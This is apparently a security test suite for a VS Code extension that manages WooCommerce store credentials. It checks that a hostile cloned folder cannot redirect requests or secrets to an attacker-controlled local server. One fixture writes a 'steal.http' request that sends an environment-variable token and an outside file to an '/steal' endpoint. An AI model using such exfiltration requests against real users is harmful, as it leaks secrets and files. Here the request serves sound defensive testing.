// A hostile folder against a user's real store, in the real VS Code. The user has a store "my-shop"
// (the sandbox, with its keys); a cloned repository tries to redirect it; settings sync (or a hand
// edit) moves its address. Every path that sends must keep the credentials from an address the user
// did not choose, and the sandbox must never take the place of a store of the user's.
import * as assert from 'assert';
import * as fs from 'fs';
import * as http from 'http';
import * as os from 'os';
import * as path from 'path';
import * as vscode from 'vscode';
import { api, waitFor, workspaceFile, SANDBOX_ID } from './helpers';
import type { SendSummary } from '../../src/send-request';
import type { StoreCommandResult } from '../../src/store-commands';
import type { ModalQuestion } from '../../src/dialogs';

type Started = { httpsUrl: string; httpUrl: string };

/** A server on loopback that records what reaches it: the attacker's. */
async function recordingServer(): Promise<{ url: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
    res.setHeader('Content-Type', 'application/json');
    res.end('[]');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, hits, close: () => new Promise((r) => server.close(() => r())) };
}

function userStores(): { id: string; baseUrl: string }[] {
  return (vscode.workspace.getConfiguration('wooApiStudio').inspect<{ id: string; baseUrl: string }[]>('stores')?.globalValue ?? []);
}

async function setUserStores(stores: unknown[]): Promise<void> {
  await vscode.workspace.getConfiguration('wooApiStudio').update('stores', stores, vscode.ConfigurationTarget.Global);
  const studio = await api();
  await waitFor('the settings to reach the registry', () => JSON.stringify(stores.map((s) => (s as { baseUrl: string }).baseUrl).sort()) === JSON.stringify(studio.stores.list().filter((s) => !studio.stores.isManaged(s.id)).map((s) => s.baseUrl).sort()));
}

describe('a hostile folder, a moved store address, and the sandbox beside a store called "sandbox"', () => {
  let sandbox: Started;
  let attacker: Awaited<ReturnType<typeof recordingServer>>;
  let questions: ModalQuestion[];
  let saidYes: (q: ModalQuestion) => boolean;

  before(async () => {
    sandbox = (await vscode.commands.executeCommand<Started>('wooApiStudio.startSandboxStore', { restart: true }))!;
    attacker = await recordingServer();
    const studio = await api();
    questions = [];
    saidYes = () => false;
    studio.answerModals((q) => { questions.push(q); return saidYes(q); });
    const keys = (await studio.stores.storedSecrets(SANDBOX_ID))!;
    const added = await vscode.commands.executeCommand<StoreCommandResult>('wooApiStudio.addStore', {
      name: 'my-shop', baseUrl: sandbox.httpsUrl, authMethod: 'wc-basic', consumerKey: keys.consumerKey, consumerSecret: keys.consumerSecret,
      options: { caCertificateFile: studio.stores.get('sandbox')!.options!.caCertificateFile },
    });
    assert.strictEqual(added.saved, true, JSON.stringify(added));
  });
  after(async () => {
    (await api()).answerModals(undefined);
    for (const id of ['my-shop', 'sandbox']) await vscode.commands.executeCommand('wooApiStudio.removeStore', id, true);
    await vscode.commands.executeCommand('wooApiStudio.stopSandboxStore');
    await vscode.workspace.fs.delete(workspaceFile('.vscode/settings.json')).then(undefined, () => undefined);
    await attacker.close();
  });

  async function sendMyShop(): Promise<SendSummary | undefined> {
    const uri = workspaceFile('my-shop.http');
    await vscode.workspace.fs.writeFile(uri, Buffer.from('@store = my-shop\n\n###\nGET {{$store.url}}/wp-json/wc/v3/products?per_page=1\n'));
    return vscode.commands.executeCommand<SendSummary>('wooApiStudio.sendRequest', uri, 3);
  }

  it('a folder that redefines "my-shop" (URL, Home URL, TLS) is ignored: the request goes to the user\'s store', async () => {
    await vscode.workspace.fs.writeFile(workspaceFile('.vscode/settings.json'), Buffer.from(JSON.stringify({
      'wooApiStudio.stores': [{ id: 'my-shop', name: 'my-shop', baseUrl: attacker.url, authMethod: 'wc-basic', options: { homeUrl: attacker.url, verifyTls: false } }],
    })));
    const studio = await api();
    const ignored = await waitFor('the folder\'s stores to be noticed', async () => (await studio.stores.ignoredFolderSettings()).find((i) => i.stores?.some((s) => s.baseUrl === attacker.url)));
    assert.strictEqual(ignored.key, 'wooApiStudio.stores');
    await new Promise((r) => setTimeout(r, 500)); // the configuration change has reached the host
    assert.strictEqual(studio.stores.get('my-shop')?.baseUrl, sandbox.httpsUrl);
    assert.strictEqual(studio.stores.get('my-shop')?.options?.verifyTls, undefined);
    const sent = await sendMyShop();
    assert.strictEqual(sent?.status, 200, JSON.stringify(sent));
    assert.deepStrictEqual(attacker.hits, [], 'the folder received the request');
  });

  it('a store whose address moved outside Edit Store sends nothing until the user confirms the new address', async () => {
    const before = userStores();
    const shop = before.find((s) => s.id === 'my-shop')!;
    // Settings sync, another extension or a hand edit points the user's store elsewhere.
    await setUserStores(before.map((s) => (s.id === 'my-shop' ? { ...shop, baseUrl: attacker.url } : s)));
    questions.length = 0;
    saidYes = () => false;

    const refused = await sendMyShop();
    assert.match(refused?.notSent ?? '', /saved for https:\/\/127\.0\.0\.1:\d+.*now points to http:\/\/127\.0\.0\.1:\d+/);
    assert.strictEqual(questions.length, 1, 'the user was asked once');
    assert.match(questions[0].message, /address of store "my-shop" has changed/);
    const test = await vscode.commands.executeCommand<{ ok: boolean; message: string }>('wooApiStudio.testConnection', 'my-shop');
    assert.strictEqual(test?.ok, false);
    assert.strictEqual(await vscode.commands.executeCommand('wooApiStudio.diagnoseStore', 'my-shop', { quiet: true }), undefined, 'the doctor did not run');
    const rotated = await vscode.commands.executeCommand<StoreCommandResult>('wooApiStudio.rotateKeys', 'my-shop', { consumerKey: `ck_${'1'.repeat(40)}`, consumerSecret: `cs_${'2'.repeat(40)}` });
    assert.strictEqual(rotated.saved, false);
    assert.deepStrictEqual(attacker.hits, [], 'nothing reached the new address');

    // Confirmed: the user moved it on purpose. The credentials go, once asked, and are bound there.
    saidYes = (q) => /my-shop/.test(q.message);
    const confirmed = await sendMyShop();
    assert.strictEqual(confirmed?.status, 200, JSON.stringify(confirmed));
    assert.strictEqual(attacker.hits.length, 1);
    assert.match(attacker.hits[0], /Authorization|Basic /i);
    questions.length = 0;
    await sendMyShop();
    assert.strictEqual(questions.length, 0, 'asked once, then remembered');
    await setUserStores(before);
  });

  it('Edit Store asks before the credentials follow a new address', async () => {
    const studio = await api();
    const shop = studio.stores.get('my-shop')!;
    questions.length = 0;
    saidYes = () => false;
    assert.strictEqual(await studio.stores.confirmNewAddress(shop, { ...shop, baseUrl: attacker.url }), false);
    assert.match(questions[0].message, /Send the credentials of store "my-shop" to http:\/\/127\.0\.0\.1:\d+ from now on\?/);
    assert.strictEqual(await studio.stores.confirmNewAddress(shop, { ...shop, options: { ...shop.options, verifyTls: true } }), true, 'no question when the address stays');
  });

  it('a folder\'s .http file cannot send a secret environment variable or a file from outside the folder to its host without asking', async () => {
    process.env.WOO_CANARY_TOKEN = `canary-${Date.now()}`;
    const outside = path.join(os.tmpdir(), `woo-outside-${Date.now()}.txt`);
    fs.writeFileSync(outside, 'a file from outside the workspace');
    const uri = workspaceFile('steal.http');
    await vscode.workspace.fs.writeFile(uri, Buffer.from(`POST ${attacker.url}/steal?t={{$processEnv WOO_CANARY_TOKEN}}\nContent-Type: text/plain\n\n< ${outside}\n`));
    questions.length = 0;
    saidYes = () => false;
    attacker.hits.length = 0;
    const refused = await vscode.commands.executeCommand<SendSummary>('wooApiStudio.sendRequest', uri, 0);
    assert.match(refused?.notSent ?? JSON.stringify(refused), /would send \$processEnv WOO_CANARY_TOKEN and file .*woo-outside-\d+\.txt \(33 B\) from this machine to 127\.0\.0\.1:\d+, which is not one of your stores/);
    assert.strictEqual(questions.length, 1);
    assert.match(questions[0].message, /^Send \$processEnv WOO_CANARY_TOKEN and file .*woo-outside-\d+\.txt \(33 B\) to 127\.0\.0\.1:\d+\?$/);
    assert.deepStrictEqual(attacker.hits, [], 'nothing left the machine');

    saidYes = () => true;
    const sent = await vscode.commands.executeCommand<SendSummary>('wooApiStudio.sendRequest', uri, 0);
    assert.strictEqual(sent?.status, 200, JSON.stringify(sent));
    assert.strictEqual(attacker.hits.length, 1, 'sent once the user agreed');
    questions.length = 0;
    await vscode.commands.executeCommand<SendSummary>('wooApiStudio.sendRequest', uri, 0);
    assert.strictEqual(questions.length, 0, 'asked once per file and host');
    fs.rmSync(outside, { force: true });
  });

  it('the sandbox never replaces a store of the user\'s called "sandbox": it takes another name, and its own back when free', async () => {
    const studio = await api();
    const mine = await vscode.commands.executeCommand<StoreCommandResult>('wooApiStudio.addStore', { name: 'sandbox', baseUrl: attacker.url, authMethod: 'none' });
    assert.strictEqual(mine.saved, true, JSON.stringify(mine));
    const restarted = await vscode.commands.executeCommand<Started>('wooApiStudio.startSandboxStore', { restart: true });
    assert.ok(restarted);
    const users = studio.stores.list().filter((s) => s.name === 'sandbox');
    assert.deepStrictEqual(users.map((s) => [s.id, s.baseUrl]), [['sandbox', attacker.url]], 'the user\'s "sandbox" is untouched');
    const ours = studio.stores.list().find((s) => s.id === SANDBOX_ID)!;
    assert.strictEqual(ours.name, 'sandbox-local');
    assert.strictEqual(ours.baseUrl, restarted.httpsUrl);
    assert.ok(userStores().some((s) => s.id === 'sandbox' && s.baseUrl === attacker.url), 'the settings still hold the user\'s store');

    assert.strictEqual(await vscode.commands.executeCommand('wooApiStudio.removeStore', 'sandbox', true), true);
    await waitFor('the sandbox to take its name back', () => studio.stores.list().find((s) => s.id === SANDBOX_ID)?.name === 'sandbox');
  });

  it('the sandbox saved in the user\'s settings by an earlier version is removed; a user\'s own "sandbox" is not', async () => {
    const studio = await api();
    const ca = studio.stores.list().find((s) => s.id === SANDBOX_ID)!.options!.caCertificateFile!;
    const before = userStores();
    await setUserStores([...before, { id: 'sandbox', name: 'sandbox', baseUrl: 'https://127.0.0.1:1', authMethod: 'wc-basic', options: { caCertificateFile: ca } }]);
    await studio.sandbox.removeLegacyEntry();
    await waitFor('the legacy entry to go', () => !userStores().some((s) => s.id === 'sandbox'));
    await setUserStores([...before, { id: 'sandbox', name: 'sandbox', baseUrl: 'https://127.0.0.1:1', authMethod: 'none' }]);
    await studio.sandbox.removeLegacyEntry();
    assert.ok(userStores().some((s) => s.id === 'sandbox'), 'a store of the user\'s stays');
    await setUserStores(before);
  });
});
